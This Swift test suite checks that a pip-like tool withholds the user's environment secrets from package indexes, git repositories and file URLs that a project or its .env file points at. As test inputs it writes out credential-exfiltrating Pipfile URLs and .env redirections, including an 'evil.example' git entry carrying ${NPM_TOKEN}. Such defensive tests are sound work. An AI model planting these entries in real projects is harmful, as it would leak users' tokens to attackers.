import OperatingSystem
import Testing

/// `${NAME}` in the addresses of a project: what of the user's goes where, and what does not.
@Suite(.enabled(if: Machine.isReady, Machine.notReady)) struct AddressVariableTests {
    static let secret = "us3rs-s3cret-5d1e"

    static func pipfile(_ url: String, _ packages: String = "demo = \"*\"") -> String {
        "[[source]]\nname = \"x\"\nurl = \"\(url)\"\nverify_ssl = false\n\n[packages]\n\(packages)\n"
    }

    private func place(_ variables: [String: String]) throws -> Workplace {
        let place = try Workplace(variables: ["PIP_RETRIES": "0", "PIP_TIMEOUT": "2"].merging(variables) { $1 })
        try place.plantPrograms()
        return place
    }

    /// What the listener was told by `Authorization`.
    private static let asUser = "Basic " + "dXMzcnMtczNjcmV0LTVkMWU6"

    @Test(arguments: ["AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "NPM_TOKEN", "SSH_AUTH_SOCK", "ANTHROPIC_API_KEY"])
    func `Credentials of other systems go to no index, unless the user allows it`(name: String) throws {
        let listener = try LoopbackListener(status: 404)
        let place = try place([name: Self.secret])
        for url in [
            "http://${\(name)}@\(listener.address)/simple", "http://u:$\(name)@\(listener.address)/simple",
            "http://\(listener.address)/${\(name)}/simple", "http://\(listener.address)/simple?a=${\(name)}",
        ] {
            try place.write(Self.pipfile(url), to: "Pipfile")
            for words in [["lock"], ["install"], ["audit", "-s", "pypi"]] {
                // A project allows itself nothing.
                try place.write("PIPIT_SEND_VARIABLES=\(name)@\(listener.address)\n", to: ".env")
                let run = try place.pipit(words)
                #expect(run.status == 2 || words[0] == "audit", "\(run)")
                #expect(run.code == "variable-withheld" || words[0] == "audit", "\(run)")
                #expect(!(run.output + run.talk).contains(Self.secret), "\(run)")
            }
        }
        #expect(listener.toldText == "")
        // The control: where the user allows it, it arrives.
        try place.write(Self.pipfile("http://${\(name)}@\(listener.address)/simple"), to: "Pipfile")
        let run = try place.pipit(["lock"], variables: ["PIPIT_SEND_VARIABLES": "\(name)@127.0.0.1"])
        #expect(listener.toldText.contains(Self.asUser), "\(run)\n\(listener.toldText)")
        #expect(run.code == "package-not-found" && !run.talk.contains("variable-withheld"), "\(run)")
    }

    @Test func `Nothing of the user's goes where the project's .env leads`() throws {
        let listener = try LoopbackListener(status: 404)
        let place = try place(["TOKEN": Self.secret])
        for (url, dotenv) in [
            ("http://${TOKEN}@${WHERE}/simple", "WHERE=\(listener.address)"),
            ("${INDEX}", "INDEX=http://${TOKEN}@\(listener.address)/simple"),
            ("${INDEX}/${TOKEN}/simple", "INDEX=\(listener.url)"),
            ("${SCHEME}://${TOKEN}@index.example/simple", "SCHEME=\(listener.url)/?a="),
            (
                "http://${TOKEN}@127.0.0.1${REST}",
                "REST=:\(listener.address.split(separator: ":")[1])@\(listener.address)/simple"
            ),
        ] {
            try place.write(Self.pipfile(url), to: "Pipfile")
            try place.write(dotenv + "\n", to: ".env")
            let run = try place.pipit("lock")
            #expect(run.status == 2 && run.code == "variable-withheld", "\(url)\n\(run)")
        }
        #expect(listener.toldText == "")
        // The control: what `.env` sets itself goes where it says.
        try place.write("WHERE=\(listener.address)\nTOKEN=\(Self.secret)\n", to: ".env")
        try place.write(Self.pipfile("http://${TOKEN}@${WHERE}/simple"), to: "Pipfile")
        let run = try place.pipit("lock")
        #expect(listener.toldText.contains(Self.asUser) && run.code == "package-not-found", "\(run)")
    }

    @Test func `Nothing of the user's goes over plain http to another machine`() throws {
        let place = try place(["TOKEN": Self.secret])
        for url in [
            "http://${TOKEN}@index.example/simple", "http://10.0.0.1/${TOKEN}/simple", "http://nexus:8081/?a=$TOKEN",
        ] {
            try place.write(Self.pipfile(url), to: "Pipfile")
            let run = try place.pipit("lock")
            #expect(run.status == 2 && run.code == "variable-withheld" && run.talk.contains("plain http"), "\(run)")
        }
    }

    @Test func `Repositories and files get no more than indexes do`() throws {
        let listener = try LoopbackListener(status: 404)
        let place = try place(["NPM_TOKEN": Self.secret, "TOKEN": Self.secret])
        try place.write("WHERE=\(listener.address)\n", to: ".env")
        for entry in [
            "demo = {git = \"http://${NPM_TOKEN}@\(listener.address)/r.git\"}",
            "demo = {git = \"http://${TOKEN}@${WHERE}/r.git\"}",
            "demo = {git = \"http://\(listener.address)/${NPM_TOKEN}/r.git\"}",
            "demo = {git = \"git://git.example/${TOKEN}/r.git\"}",
            "demo = {git = \"evil.example:${NPM_TOKEN}/r.git\"}",
            "demo = {git = \"${WHERE}/${TOKEN}/://git.example/r.git\"}",
            "demo = {file = \"http://${NPM_TOKEN}@\(listener.address)/demo-1.0-py3-none-any.whl\"}",
            "demo = {file = \"http://${TOKEN}@${WHERE}/demo-1.0-py3-none-any.whl\"}",
        ] {
            try place.write(Self.pipfile(listener.url + "/simple", entry), to: "Pipfile")
            let run = try place.pipit("lock")
            #expect(run.status == 2 && run.code == "variable-withheld", "\(entry)\n\(run)")
            #expect(!Files.exists(Paths.join(place.path, "command-lines")), "git was started for \(entry)")
        }
        #expect(listener.toldText == "")
    }

    @Test func `All else is told once for each project and host, and again when there is more`() throws {
        let index = try LoopbackIndex("[packages.demo.versions.\"1.0\"]\n")
        let place = try place(["TOKEN": Self.secret, "NAME": "me"])
        func isTold(_ words: [String], in directory: String? = nil, _ variables: [String: String] = [:]) throws -> Bool
        {
            let run = try place.pipit(words, variables: variables, in: directory)
            #expect(run.status == 0 && !run.talk.contains(Self.secret), "\(run)")
            return run.talk.contains("note[variable-withheld]: this project sends `${TOKEN}`")
        }
        try place.write(Self.pipfile("http://${TOKEN}@\(index.address)/simple"), to: "Pipfile")
        #expect(try !isTold(["lock", "--quiet"]))
        #expect(try !isTold(["lock"], ["PIPIT_SEND_VARIABLES": "TOKEN@\(index.address)"]))
        // What the project sets does not keep it from being told.
        try place.write("PIPENV_QUIET=1\nPIPENV_VERBOSITY=-1\n", to: ".env")
        #expect(try isTold(["lock"]))
        try Files.remove(Paths.join(place.project, ".env"))
        #expect(try !isTold(["lock"]))
        #expect(try !isTold(["install"]))
        // The project's own files cannot say that it was told.
        let other = Paths.join(place.path, "other")
        try Files.makeDirectories(other)
        try Files.write(Files.read(Paths.join(place.project, "Pipfile")), to: Paths.join(other, "Pipfile"))
        #expect(try isTold(["lock"], in: other))
        try place.write(Self.pipfile("http://${NAME}:${TOKEN}@\(index.address)/simple"), to: "Pipfile")
        let run = try place.pipit("lock")
        #expect(
            run.talk.contains("this project sends `${NAME}` and `${TOKEN}` of your environment to `\(index.address)`"))
        // An address that is the user's own needs no telling.
        try place.write(Self.pipfile("${MINE}"), to: "Pipfile")
        let own = try place.pipit(["lock"], variables: ["MINE": "http://me:\(Self.secret)@\(index.address)/simple"])
        #expect(own.status == 0 && !own.talk.contains("note["), "\(own)")
    }
}
